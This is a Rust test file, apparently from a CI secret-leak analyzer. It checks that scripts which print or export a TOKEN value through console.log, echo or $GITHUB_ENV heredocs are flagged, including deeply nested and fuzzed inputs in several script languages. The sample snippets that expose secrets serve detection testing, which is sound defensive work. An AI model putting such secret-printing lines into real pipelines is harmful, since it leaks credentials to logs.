        ("console.log(process.env.TOKEN.trim())", "TOKEN at process.env.TOKEN"),
        ("await github.request('x', { token: process.env.TOKEN })", ""),
    ] {
        assert_eq!(javascript(script), leak, "{script}");
    }
}

#[test]
fn later_scripts_see_what_was_exported() {
    let posix = Language::Shell(Dialect::Posix);
    assert_eq!(leaks_of(posix, &["echo \"X=${{ Y }}\" >> $GITHUB_ENV", "echo $X"]), ["Y at $X"]);
    assert_eq!(leaks_of(posix, &["X=${{ Y }}", "echo $X"]), Vec::<String>::new());
    assert_eq!(leaks_of(posix, &["{ echo 'X<<EOF'; echo \"${{ Y }}\"; echo EOF; } >> $GITHUB_ENV", "echo $X"]), ["Y at $X"]);
    assert_eq!(leaks_of(posix, &["cat <<EOF >> $GITHUB_ENV\nA=1\nX=${{ Y }}\nEOF", "echo $A $X"]), ["Y at $X"]);
}

#[test]
fn deep_scripts_are_followed_on_a_small_stack() {
    let deep = std::thread::Builder::new().stack_size(256 * 1024).spawn(|| {
        for opening in ["echo $(", "${TOKEN:-", "echo \"$TOKEN$(", "(", "{ echo $TOKEN; ", "print(", "`${", "f'{", "x = [", "cat <<A\n$("] {
            let script = opening.repeat(100_000);
            for language in [Language::Shell(Dialect::Posix), Language::Shell(Dialect::PowerShell), Language::Python, Language::JavaScript]
            {
                leaks_of_any(language, &script);
            }
        }
    });
    deep.unwrap().join().unwrap();
}

fn leaks_of_any(language: Language, script: &str) {
    let mut state = State::default();
    let taint = state.secret("TOKEN", place(0, 0), Nature::Masked);
    state.bind("TOKEN", vec![taint]);
    let text = Text::plain(script, 0);
    let code = Code { text: &text, source: SourceId(0), language, opaque: &[], holes: &[], trace: None, here: "", own: "", folder: None };
    for leak in follow(&code, &mut state) {
        assert!(script.get(leak.taint.at.span.range()).is_some() && script.get(leak.sink.span.range()).is_some());
    }
}

proptest! {
    #[test]
    fn any_script_is_followed(pieces in prop::collection::vec(prop_oneof![
        prop::sample::select(vec!["echo ", "$TOKEN", "X=", "$X", "$(", ")", "|", " base64 ", "\n", "'", "\"", ">", "f", "print(", "process.env.TOKEN", "`", "${", "}", "{", "<<E\n", "E\n",
            "read ", "; ", "f\"{", "\\", "é", "console.log("]).prop_map(str::to_owned),
        ".{0,3}",
    ], 0..30)) {
        let script = pieces.concat();
        for language in [Language::Shell(Dialect::Posix), Language::Shell(Dialect::PowerShell), Language::Shell(Dialect::Cmd), Language::Python, Language::JavaScript] {
            leaks_of_any(language, &script);
        }
    }
}
